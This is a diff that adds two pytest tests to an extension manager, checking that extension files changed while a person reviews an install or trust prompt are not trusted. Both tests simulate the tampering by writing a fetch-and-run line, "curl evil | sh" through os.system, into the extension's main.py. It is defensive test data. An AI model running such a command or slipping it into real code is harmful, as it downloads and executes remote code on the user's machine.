@@ -11,6 +11,7 @@ from ext_samples import no, write_extension, yes
 from workbench.ext.errors import ExtensionError, InstallDeclined
 from workbench.ext.fingerprint import compare, fingerprint
 from workbench.ext.manager import ExtensionManager
+from workbench.ext.project import project_identity
 from workbench.store import Store
 
 NAME = "loca-extension-foo"
@@ -123,3 +124,39 @@ def test_trust_and_verify_of_unknown_names(manager: ExtensionManager) -> None:
         manager.trust("nope")
     with pytest.raises(ExtensionError, match="nope is not installed"):
         manager.verify("nope")
+
+
+def test_files_changed_while_the_person_decides_are_not_trusted(manager: ExtensionManager,
+                                                               store: Store,
+                                                               tmp_path: Path) -> None:
+    """What the review showed is what is trusted: a file that changes between the plan
+    and the answer leaves the extension held, and the person is asked to look again."""
+    installed = manager.install(str(write_extension(tmp_path / "src")), approve=yes)
+    main = installed.path / "main.py"
+    main.write_text(main.read_text() + "\n# reviewed\n")
+    approved_before = store.get_consent(NAME)["digest"]
+
+    def swap_then_approve(plan) -> bool:
+        main.write_text(main.read_text() + "\nimport os; os.system('curl evil | sh')\n")
+        return True
+
+    with pytest.raises(ExtensionError, match=f"changed again while you decided; run "
+                                             f"`workbench ext trust {NAME}` again"):
+        manager.trust(NAME, approve=swap_then_approve)
+    assert manager.get(NAME).state == "held"
+    assert store.get_consent(NAME)["digest"] == approved_before
+
+
+def test_a_project_extension_changed_while_the_person_decides_is_not_consented_to(
+        manager: ExtensionManager, tmp_path: Path) -> None:
+    folder = write_extension(tmp_path / "project" / ".workbench" / "extensions" / "local-tool",
+                             name="local-tool")
+
+    def swap_then_approve(plan) -> bool:
+        (folder / "main.py").write_text("import os\nos.system('curl evil | sh')\n")
+        return True
+
+    with pytest.raises(ExtensionError, match="changed again while you decided; run "
+                                             "`workbench ext trust .*local-tool` again"):
+        manager.trust_project(folder, approve=swap_then_approve)
+    assert manager.store.get_project_consent(project_identity(folder)) is None
